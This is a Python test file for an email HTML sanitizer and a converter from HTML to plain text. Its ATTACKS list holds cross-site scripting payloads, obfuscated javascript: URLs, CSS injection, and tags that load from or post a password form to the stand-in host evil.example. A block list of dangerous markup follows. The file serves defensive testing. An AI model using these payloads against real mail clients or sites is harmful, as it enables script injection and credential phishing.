"""A stranger's HTML is shown without script, form, or anything loaded from elsewhere; as text it stays readable."""

# ruff: noqa: E501 — mails are data
from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.channels.mail.html import MOST_LINKS, clean
from hub.channels.mail.html_text import to_lines

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example'><input name=password><button>ok</button></form>",
    "<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background-image:url(//evil.example/x)'>x</p>",
    "<p style='color:red;position:fixed;top:0;z-index:9'>x</p>",
    "<p style='background:\\75rl(https://evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background='https://evil.example/x'><tr><td background='//evil.example'>x</td></tr></table>",
    "<img srcset='https://evil.example/x 2x'><video poster='https://evil.example/x'><source src='https://evil.example'></video>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a href=x id=composer name=body class='hub-button'>x</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    html = clean(f"<p>antes</p>{attack}<p>después</p>").html
    lower = html.lower()
    for word in ("<script", "onerror", "onload", "javascript:", "vbscript:", "<base", "<meta", "<link", "<form", "<input", "<iframe",
                 "<object", "<embed", "<style", "url(", "position", "expression", "srcset", "poster", "svg", " id=", " class=", " name="):  # fmt: skip
        assert word not in lower
    assert "antes" in html
    # The only address that may stand anywhere is that of a link, or of a picture that waits for a click.
    for found in re.finditer(r'([a-z-]+)="(?:https?:)?//', lower):
        assert found[1] in ("href", "data-remote-src")


def test_pictures_from_elsewhere_wait_for_the_reader() -> None:
    found = clean(
        '<img src="https://t.example/p.gif?a=1&amp;b=2" alt="a > b" width=1><img src=http://x.example/y><img src="//z.example/">'
    )
    assert found.remote_images == 2
    assert " src=" not in found.html
    assert 'data-remote-src="https://t.example/p.gif?a=1&amp;b=2"' in found.html


def test_pictures_of_the_mail_itself_are_shown() -> None:
    found = clean(
        '<img src="cid:ii_1@x"><img src="CID:gone"><img src="data:image/png;base64,AAAA">',
        {"ii_1@x": "/files/7"}.get,
    )
    assert 'src="/files/7"' in found.html
    assert found.html.count("src=") == 2
    assert found.remote_images == 0


def test_what_a_mapping_gives_cannot_break_out() -> None:
    assert 'onerror="' not in clean('<img src="cid:a">', lambda _: '"><script>').html


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = clean(
        '<a href="https://x.example/?a=1" target=_self rel=opener>x</a><a href="mailto:a@b.example">y</a>'
    ).html
    assert html.count('target="_blank"') == 2
    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert clean('<a href="https://x.example/">x</a>' * (MOST_LINKS + 50)).html.count("href=") == MOST_LINKS


def test_the_looks_of_ordinary_mails_stay() -> None:
    html = clean(
        "<p style=\"color:#123456; margin:0cm; font-family:'Calibri',sans-serif\">x</p><font color=red>y</font>"
    ).html
    assert "color:#123456" in html
    assert "Calibri" in html
    assert 'color="red"' in html


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<", ">", '"', "'", "<b>", "</", "<a ", "&lt;", "cid:", "--", "<!", "x"]),
        max_size=15,
    )
)
@settings(max_examples=200, deadline=None)
def test_cleaning_twice_changes_nothing_dangerous(pieces: list[str]) -> None:
    html = clean("".join(pieces)).html
    assert "<script" not in html.lower()
    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', "", html.lower()))
    assert clean(html).html.lower().count("<script") == 0


READABLE = {
    "<p>Hola&nbsp;<b>Ana</b>:</p><p>uno<br>dos</p>": "Hola Ana:\n\nuno\ndos",
    "<ul><li>uno<li>dos</ul><ol><li>a</li><li>b</li></ol>": "- uno\n- dos\n\n1. a\n2. b",
    "<table><tr><td>Ref</td><td>48213</td></tr><tr><th>x</th><td>y</td></tr></table>": "Ref 48213\nx y",
    "<style>x{}</style><title>t</title><div>a</div><div>b</div><script>no</script>": "a\nb",
    "<div>a<div>b</div>c</div>": "a\nb\nc",
    "<pre>  uno\n    dos</pre>": "  uno\n    dos",
    "<p>a</p><blockquote type=cite><p>b</p><p>c</p></blockquote><p>d</p>": "a\n\n> b\n>\n> c\n\nd",
    "<div style='display:none'>pre</div><p>a &lt;b&gt; &amp; c &euro;</p>": "a <b> & c €",
    "un   texto\r\n partido<br/><br/>y otro": "un texto partido\n\ny otro",
    "2 < 3 y 5 > 4": "2 < 3 y 5 > 4",
    "<p title='a > b'>x</p>": "x",
    "Hola <img src=cid:x alt='😀'> <img alt='Logo de la empresa'>": "Hola 😀",
    "<b>negrita</b><i>junta</i>": "negritajunta",
    "<p>a</p><!-- <p>no</p> --><p>b</p>": "a\n\nb",
    "<blockquote style='margin:0 0 0 40px;border:none;padding:0px'>sangrado</blockquote>": "sangrado",
}


@pytest.mark.parametrize("html", READABLE)
def test_html_is_readable_as_text(html: str) -> None:
    assert to_lines(html).text == READABLE[html]


def test_signs_that_open_no_tag_are_words() -> None:
    assert to_lines("a << b <<< <b>c</b> 3 < 4 <p>x").lines == ["a << b <<< c 3 < 4", "", "x"]
    assert to_lines("<" * 400_000 + "<!-- y -->z").lines == ["<" * 400_000 + "z"]
